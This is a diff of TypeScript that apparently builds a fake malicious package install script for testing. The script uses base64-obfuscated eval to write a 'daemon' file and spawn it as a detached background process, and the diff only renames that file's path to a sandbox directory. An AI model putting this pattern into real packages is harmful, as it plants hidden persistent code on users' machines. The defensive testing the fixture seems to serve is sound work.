@@ -22,8 +22,8 @@ export function makeForger(): Record<string, string> {
     fs.mkdirSync('node_modules/many', { recursive: true });
     for (let i = 0; i < 5000; i++) fs.writeFileSync('node_modules/many/' + i, '');
     fs.writeFileSync('node_modules/started', '');
-    fs.writeFileSync('/work/home/daemon.js', Buffer.from('${Buffer.from(daemon).toString('base64')}', 'base64'));
-    require('child_process').spawn(process.execPath, ['/work/home/daemon.js'], { detached: true, stdio: 'ignore' }).unref();
+    fs.writeFileSync('/sandbox/home/daemon.js', Buffer.from('${Buffer.from(daemon).toString('base64')}', 'base64'));
+    require('child_process').spawn(process.execPath, ['/sandbox/home/daemon.js'], { detached: true, stdio: 'ignore' }).unref();
     Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 500);`;
   const code = `eval(Buffer.from('${Buffer.from(install).toString('base64')}','base64').toString())`;
   return makeInstall(`node -e "${code}"`);
